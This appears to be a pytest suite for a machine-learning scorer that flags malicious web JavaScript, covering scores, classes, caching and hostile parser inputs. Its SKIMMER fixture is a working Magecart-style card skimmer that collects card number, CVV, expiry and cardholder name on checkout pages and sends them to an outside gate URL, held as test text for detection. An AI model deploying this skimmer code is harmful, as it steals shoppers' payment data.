"""The shipped model end to end: scores, classes, caches, hostile inputs (text only, never run)."""

from __future__ import annotations

import time
from pathlib import Path

import numpy as np
import pytest

from bastion.scripts import ScriptScorer, SourceError, load_scorer
from bastion.scripts.features import Featurizer
from bastion.scripts.model import HEADS, Model, ModelError, ModelWeights, version_of
from bastion.scripts.result import probability_to_score
from bastion.scripts.scorer import verdict
from bastion.scripts.tree import parse

SKIMMER = b"""
(function () {
  function send() {
    var data = {};
    var fields = ['cc_number', 'cc_cid', 'cc_exp_month', 'cc_exp_year', 'cardholder'];
    fields.forEach(function (f) {
      var e = document.getElementsByName('payment[' + f + ']')[0];
      if (e && e.value) { data[f] = e.value; }
    });
    var payload = btoa(JSON.stringify(data));
    new Image().src = 'https://analytics-cdn.top/gate.php?data=' + payload;
  }
  if (/onepage|checkout|onestepcheckout/i.test(window.location)) {
    document.addEventListener('submit', send, true);
  }
})();
"""

BENIGN = b"""
export function debounce(fn, wait) {
  let timer = null;
  return function (...args) {
    clearTimeout(timer);
    timer = setTimeout(() => fn.apply(this, args), wait);
  };
}
export function formatPrice(cents, currency = 'USD') {
  return new Intl.NumberFormat('en-US', { style: 'currency', currency }).format(cents / 100);
}
"""


@pytest.fixture(scope="module")
def scorer() -> ScriptScorer:
    return load_scorer()


def test_version_is_content_hashed(scorer: ScriptScorer) -> None:
    data = Path("src/bastion/scripts/models/scripts-model.npz").read_bytes()
    assert scorer.version == version_of(data)
    assert scorer.version.startswith("js-")


def test_scores_are_in_range_and_consistent(scorer: ScriptScorer) -> None:
    for src in (SKIMMER, BENIGN, b"", b"var a;"):
        r = scorer.scan(src)
        scores = r.scores()
        assert set(scores) == {"js_integrity", "magecart", "cryptomining", "malware"}
        assert all(1 <= v <= 99 for v in scores.values())
        assert (r.cls == "benign") == (r.js_integrity > 50)
        assert r.js_integrity <= min(r.magecart, r.cryptomining, r.malware)


def test_skimmer_and_library(scorer: ScriptScorer) -> None:
    assert scorer.scan(SKIMMER).cls == "magecart"
    assert scorer.scan(BENIGN).cls == "benign"


def test_caches_by_bytes_and_by_normalized_tree(scorer: ScriptScorer) -> None:
    first = scorer.scan(SKIMMER)
    assert scorer.scan(SKIMMER) is first
    reformatted = SKIMMER.replace(b"\n", b"\n\n  ").replace(b"'", b'"')
    again = scorer.scan(reformatted)
    assert again is first  # same normalized AST: the cached verdict


def test_cached_scans_are_cheap(scorer: ScriptScorer) -> None:
    scorer.scan(BENIGN)
    t0 = time.perf_counter()
    for _ in range(2000):
        scorer.scan(BENIGN)
    assert (time.perf_counter() - t0) / 2000 < 1e-3


def test_verdict_bands() -> None:
    p = np.array([0.9, 0.1, 0.2, 0.95])
    r = verdict(p, "h", "js", False)
    assert r.cls == "magecart" and r.js_integrity == probability_to_score(0.95) <= 20
    quiet = verdict(np.array([0.1, 0.1, 0.1, 0.2]), "h", "js", False)
    assert quiet.cls == "benign" and quiet.js_integrity > 50


def test_forward_pass_pools_windows_by_max(scorer: ScriptScorer) -> None:
    model = scorer.model
    lib = BENIGN * 400  # many windows of library code
    assert len(model.window_logits(Featurizer().featurize(parse(lib + SKIMMER)))) > 2
    mal = HEADS.index("malicious")
    alone = model.logits(Featurizer().featurize(parse(SKIMMER)))[mal]
    # A script's logit is its worst window: library code around a skimmer cannot lower
    # it below that window's logit, and a small host keeps the verdict.
    hosted = model.logits(Featurizer().featurize(parse(BENIGN + SKIMMER)))[mal]
    assert alone > 0 and hosted > 0
    assert scorer.scan(BENIGN + SKIMMER).cls == "magecart"


def test_incompatible_or_corrupt_model_is_refused(tmp_path: Path) -> None:
    bad = tmp_path / "bad.npz"
    bad.write_bytes(b"not a model")
    with pytest.raises(ModelError):
        Model.load(bad)
    w = ModelWeights.from_bytes(Path("src/bastion/scripts/models/scripts-model.npz").read_bytes())
    w.meta = {**w.meta, "featurizer": "other"}
    with pytest.raises(ModelError, match="retrain"):
        Model(w, "x")


# ------------------------------------------------------------------ hostile inputs


def test_binary_input_is_an_error(scorer: ScriptScorer) -> None:
    with pytest.raises(SourceError):
        scorer.scan(bytes(range(256)) * 64)


def test_invalid_utf8_is_scored(scorer: ScriptScorer) -> None:
    r = scorer.scan(b"var s = '\xff\xfe\xc3\x28'; document.title = s + '\xe2\x82';")
    assert 1 <= r.js_integrity <= 99


def test_deep_nesting_is_scored_in_bounded_time(scorer: ScriptScorer) -> None:
    depth = 100_000
    t0 = time.perf_counter()
    r = scorer.scan(
        b"x = " + b"(" * depth + b"1" + b")" * depth + b"; y = " + b"[" * depth + b"]" * depth
    )
    assert time.perf_counter() - t0 < 20
    assert 1 <= r.js_integrity <= 99


def test_50_megabyte_file_is_bounded(scorer: ScriptScorer, tmp_path: Path) -> None:
    line = b"var v = [1, 2, 3].map(function (x) { return x * 2; });\n"
    big = tmp_path / "big.js"
    big.write_bytes(line * (50 * 1024 * 1024 // len(line)))
    t0 = time.perf_counter()
    r = scorer.scan_path(big)
    assert time.perf_counter() - t0 < 25
    assert r.truncated and r.cls == "benign"


def test_unparsable_garbage_text_still_gets_scores(scorer: ScriptScorer) -> None:
    r = scorer.scan(b"}}}{{{ ))) ((( ;;; <<< >>> @@@ ### " * 200)
    assert 1 <= r.js_integrity <= 99
